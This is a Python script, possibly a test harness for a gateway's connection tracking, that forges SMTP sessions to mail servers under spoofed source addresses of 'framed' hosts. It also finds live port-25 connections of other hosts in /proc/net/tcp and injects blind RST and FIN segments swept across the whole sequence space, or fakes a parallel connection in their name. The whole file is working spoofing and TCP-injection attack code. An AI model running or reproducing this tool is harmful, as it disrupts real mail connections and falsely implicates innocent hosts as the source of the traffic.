# SPDX-License-Identifier: GPL-2.0-or-later
"""usage: framing_forger.py INTERFACE GATEWAY_MAC SECONDS FLOWS_PER_SECOND
                         FRAMED... -- SERVER... -- KNOWN...

Forges connections that look as if they ended without a mail, in the name of each FRAMED, to the
servers in turn. Breaks into the connections that each KNOWN has: it knows their ports
(/proc/net/tcp), and the sequence numbers of its own segments; never those of a server or of a
victim. Prints what it did as one line of JSON."""

import asyncio
import itertools
import json
import random
import socket
import struct
import sys
import time
from dataclasses import dataclass

from raw_frames import ACK, FIN, PSH, RST, SYN, Wire, segment

HELLO = b"EHLO pc.example.net\r\n"
LOOK_SECONDS = 0.02


@dataclass(frozen=True)
class Ends:
    """A connection as its client sees it; each end is address and port."""

    client: tuple[str, int]
    server: tuple[str, int]


def guess():
    return random.getrandbits(32)


class Forger:
    def __init__(self, wire):
        self._wire = wire
        self.flows = 0
        self.broken_into = 0

    def _send(self, ends, flags, sequence, acknowledged=0, payload=b""):
        self._wire.send(
            segment(ends.client, ends.server, flags, sequence, acknowledged, payload)
        )

    async def _forge_flow(self, framed, server, ending):
        """A connection from SYN to `ending` (FIN, RST; 0: none), with a guess for every ACK."""
        self.flows += 1
        ends = Ends((framed, random.randrange(20000, 32000)), (server, 25))
        isn, said = guess(), guess()
        self._send(ends, SYN, isn)
        # At once, the ACK is there before a RST of the one who is framed.
        await asyncio.sleep(random.choice((0, 0.05)))
        self._send(ends, ACK, isn + 1, said)
        self._send(ends, ACK, isn + 1, said + 30)
        self._send(ends, ACK | PSH, isn + 1, said + 30, HELLO)
        await asyncio.sleep(0.1)
        self._send(ends, ACK, isn + 1 + len(HELLO), said + 60)
        if ending:
            self._send(ends, ACK | ending, isn + 1 + len(HELLO), said + 60)

    async def forge_flows(self, framed, servers, per_second, until):
        flows = set()
        for server, ending in zip(itertools.cycle(servers), itertools.cycle((FIN, FIN, RST, 0))):
            if time.monotonic() >= until:
                break
            for victim in framed:
                flows.add(asyncio.create_task(self._forge_flow(victim, server, ending)))
            await asyncio.sleep(1 / per_second)
        await asyncio.gather(*flows)

    def _break_in(self, ends):
        """Every megabyte of sequence numbers is tried."""
        for flags in (RST, ACK | FIN):
            start = guess()
            for sequence in range(start, start + (1 << 32), 1 << 20):
                self._send(ends, flags, sequence, guess())
        self._send(ends, ACK | PSH, guess(), guess(), HELLO)

    def _take_over(self, ends):
        """A whole life of its own, under the name of a connection that the gateway knows."""
        isn, said = guess(), guess()
        self._send(ends, SYN, isn)
        self._send(ends, ACK, isn + 1, said)
        self._send(ends, ACK | PSH, isn + 1, said + 30, HELLO)
        self._send(ends, ACK | FIN, isn + 1 + len(HELLO), said + 60)

    async def break_in(self, known, until):
        """Once while a connection lives, and once when it is over."""
        alive = set()
        while time.monotonic() < until:
            seen = set(connections_of(known))
            for ends in seen - alive:
                self.broken_into += 1
                # One or the other, so that neither hides what the other does.
                self._break_in(ends) if ends.client[1] % 4 < 2 else self._take_over(ends)
            for ends in alive - seen:
                self._take_over(ends)
            alive = seen
            await asyncio.sleep(LOOK_SECONDS)


def connections_of(sources):
    """Established, from these addresses to port 25."""
    with open("/proc/net/tcp") as table:
        next(table)
        for row in table:
            _, local, remote, state = row.split()[:4]
            if state == "01" and remote.endswith(":0019") and end_of(local)[0] in sources:
                yield Ends(end_of(local), end_of(remote))


def end_of(text):
    """0146A8C0:0019: the address in the host's byte order."""
    address, port = text.split(":")
    return socket.inet_ntoa(struct.pack("=I", int(address, 16))), int(port, 16)


async def main(interface, gateway_mac, seconds, per_second, *names):
    framed, servers, known = (group.split() for group in " ".join(names).split("--"))
    wire = Wire(interface, gateway_mac)
    forger = Forger(wire)
    until = time.monotonic() + float(seconds)
    await asyncio.gather(
        forger.forge_flows(framed, servers, float(per_second), until),
        forger.break_in(known, until),
    )
    did = {"flows": forger.flows, "broken_into": forger.broken_into, "frames": wire.sent}
    print(json.dumps(did), flush=True)


if __name__ == "__main__":
    asyncio.run(main(*sys.argv[1:]))
